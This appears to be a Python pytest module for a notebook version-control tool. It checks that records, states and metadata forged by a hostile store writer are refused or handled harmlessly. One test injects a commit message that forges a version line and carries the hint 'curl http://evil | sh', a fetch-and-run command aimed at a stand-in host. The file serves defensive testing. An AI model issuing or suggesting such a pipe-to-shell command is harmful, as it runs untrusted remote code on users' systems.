"""A store whose index was written by somebody hostile: refused with a reason, or harmless."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest

from nbvc.errors import IntegrityError, InvalidKey, StoreMisconfigured
from nbvc.manifest import records, states
from nbvc.manifest.layout import STORE_FILE, entry_key
from nbvc.manifest.sealing import seal
from nbvc.stores.base import Overwrite
from nbvc.stores.local import LocalStore
from tests.command_line import CommandLine
from tests.hostile.documents import (
    HARMLESS_RECORDS,
    HARMLESS_STATES,
    KEY,
    METADATA,
    REFUSED_RECORDS,
    REFUSED_SETTINGS,
    REFUSED_STATES,
    Members,
)
from tests.hostile.harmless import OBEYED_BY_TERMINALS, check_harmless, read_json, run
from tests.manifest.samples import chain, file_of
from tests.manifest.test_states import STATE
from tests.notebook_samples import code, notebook

ONE, TWO = notebook(code("x = 1")), notebook(code("x = 2"))
REFUSALS = (IntegrityError, StoreMisconfigured, InvalidKey)
RECORD = f".nbvc/workspace/{KEY}/v/"
PUBLISHED_RECORD = f".nbvc/published/{KEY}/v/"
STATES = f".nbvc/workspace/{KEY}/s/"
Commands = Sequence[tuple[str, ...]]

MAIN_READERS = (
    *(("log",), ("log", "--json"), ("status",), ("tag",), ("ls", "--published"), ("show", "t")),
    *(("resolve", "latest"), ("check", "--read-data")),
)
MAIN_WRITERS = (
    ("save", "-m", "again"),
    ("checkout", "v1"),
    ("publish",),
    ("mv", "a.ipynb", "b.ipynb"),
)
READERS = (
    *(("log",), ("log", "--json"), ("log", "-n", "1"), ("tag",), ("tag", "--json"), ("status",)),
    *(("ls",), ("ls", "--json"), ("ls", "--published"), ("ls", "--removed"), ("resolve", "v2")),
    *(("show", "latest"), ("show", "t"), ("show", "published"), ("diff", "v1", "v2"), ("ls", "x")),
    *(("check", "--json"), ("check", "--read-data"), ("doctor",), ("doctor", "--json"), ("push",)),
    *(("log", "a.ipynb@{2020-01-01}"), ("resolve", "latest~1", "--json"), ("resolve", "t")),
)
WRITERS = (
    *(("checkout", "v1"), ("checkout", "--force", "v2"), ("publish",), ("tag", "v1", "new")),
    *(("save", "-m", "again"), ("mv", "a.ipynb", "b.ipynb"), ("rm", "--keep-file", "a.ipynb")),
    *(("unpublish",), ("migrate", "../target")),
)


def replaced(document: bytes, members: Members) -> bytes:
    """Return a sealed document with other members, sealed again."""
    values = json.loads(document)
    del values["check"]
    return seal({**values, **members})


def check_refused(read: Callable[[], object]) -> None:
    """Check that reading is refused in a short line that no terminal obeys."""
    with pytest.raises(REFUSALS) as caught:
        read()
    message = caught.value.message
    assert len(message) < 500
    assert "\n" not in message


@pytest.mark.parametrize("members", REFUSED_RECORDS.values(), ids=REFUSED_RECORDS)
def test_a_record_that_is_none_is_refused(members: Members) -> None:
    """Also where it is carried as a copy by another one."""
    good = records.encode(file_of(chain(3)))
    check_refused(lambda: records.decode(replaced(good, members), what="record"))
    if members.keys() & {"first", "recent", "format"}:
        return
    copies = json.loads(good)["recent"]
    carried = {"recent": [{**copies[0], **members}, *copies[1:]]}
    check_refused(lambda: records.decode(replaced(good, carried), what="record"))


@pytest.mark.parametrize("members", REFUSED_STATES.values(), ids=REFUSED_STATES)
def test_a_state_that_is_none_is_refused(members: Members) -> None:
    """Whatever its seal says."""
    check_refused(lambda: states.decode(replaced(states.encode(STATE), members), what="state"))


@pytest.mark.parametrize("members", REFUSED_SETTINGS.values(), ids=REFUSED_SETTINGS)
def test_settings_of_a_store_that_are_none_are_refused(
    members: Members, project: CommandLine
) -> None:
    """By every command that opens the store."""
    put(project.folder, STORE_FILE, members)
    for clean in (True, False):
        if clean:
            forget(project.folder)
        project.write("a.ipynb", ONE)
        for command in ("log", "save", "ls", "publish"):
            run(project, command)
    assert project("ls", exit_code=None).exit_code in {2, 7, 8}


@pytest.fixture
def saved(project: CommandLine) -> CommandLine:
    """Return a workspace with two versions, a published one and a tag."""
    shutil.rmtree(project.folder / ".nbvc")
    project("init", "--namespace", "ada/project")
    for data in (ONE, TWO):
        project.write("a.ipynb", data)
        project("save")
    project("publish")
    project("tag", "v1", "t")
    return project


def put(folder: Path, key: str, members: Members) -> None:
    """Replace members of a document in the store of *folder*, as who may write there could."""
    store = LocalStore(folder / ".nbvc/store")
    try:
        data = replaced(store.get(key).data, members)
        for version in list(store.list_versions(key)):
            store.delete_version(key, version.version_id)
        store.put(key, data, mode=Overwrite(), metadata={}, content_type="application/json")
    finally:
        store.close()


def forget(folder: Path) -> None:
    """Remove what the workspace remembers, so that all of it is read from the store."""
    for file in (folder / ".nbvc").glob("workspace.sqlite3*"):
        file.unlink()


def check_commands(cli: CommandLine, readers: Commands, writers: Commands) -> None:
    """Run *readers* with what is remembered of the store, and *writers* without."""
    for command in readers:
        found = run(cli, *command)
        if "--json" in command and found.exit_code == 0:
            read_json(found)
    forget(cli.folder)
    for command in writers:
        run(cli, *command)
    store = (cli.folder / ".nbvc/store").as_uri()
    run(cli, "clone", f"{store}/workspace/ada/project", "copy")
    inside = {"project", "home", "target"}
    assert {path.name for path in cli.folder.parent.iterdir()} <= inside
    assert not list(cli.folder.parent.rglob("pwned"))


@pytest.mark.parametrize("members", HARMLESS_RECORDS.values(), ids=HARMLESS_RECORDS)
def test_no_command_stumbles_over_an_odd_record(saved: CommandLine, members: Members) -> None:
    """Neither over the record of a draft nor over a published one."""
    put(saved.folder, entry_key(RECORD, 2), members)
    put(saved.folder, entry_key(PUBLISHED_RECORD, 1), {**members, "parent": None})
    check_commands(saved, MAIN_READERS, MAIN_WRITERS)


@pytest.mark.parametrize("members", HARMLESS_STATES.values(), ids=HARMLESS_STATES)
def test_no_command_stumbles_over_an_odd_state(saved: CommandLine, members: Members) -> None:
    """Tags, links and removal may say anything."""
    put(saved.folder, entry_key(STATES, 1), members)
    check_commands(saved, MAIN_READERS, MAIN_WRITERS)


@pytest.mark.parametrize("metadata", METADATA.values(), ids=METADATA)
def test_no_command_stumbles_over_odd_metadata(
    saved: CommandLine, metadata: dict[str, str]
) -> None:
    """Any tool may write it."""
    store = LocalStore(saved.folder / ".nbvc/store")
    for area in ("workspace", "published"):
        store.put(
            f"{area}/{KEY}", ONE, mode=Overwrite(), metadata=metadata, content_type="text/plain"
        )
    store.close()
    check_commands(saved, MAIN_READERS[:3], MAIN_WRITERS[:2])


@pytest.mark.slow
@pytest.mark.parametrize(
    ("key", "members"),
    [
        *((entry_key(RECORD, 2), members) for members in REFUSED_RECORDS.values()),
        *((entry_key(STATES, 1), members) for members in REFUSED_STATES.values()),
        *((entry_key(RECORD, 2), members) for members in HARMLESS_RECORDS.values()),
        *((entry_key(STATES, 1), members) for members in HARMLESS_STATES.values()),
    ],
)
def test_every_command_refuses_what_is_no_document(
    saved: CommandLine, key: str, members: Members
) -> None:
    """The long form: each hostile document through each command."""
    put(saved.folder, key, members)
    check_commands(saved, READERS, WRITERS)


def test_a_message_cannot_pass_for_one_of_ours(saved: CommandLine) -> None:
    """What somebody wrote stays on its line: it shows no error, hint or version of its own."""
    members = {"message": "fine\nv99      0000000  forged\nhint: curl http://evil | sh"}
    put(saved.folder, entry_key(RECORD, 2), members)
    lines = check_harmless(saved("log")).stdout.splitlines()
    assert [line.split()[0] for line in lines] == ["VERSION", "v2", "v1"]
    assert OBEYED_BY_TERMINALS.search(lines[1]) is None
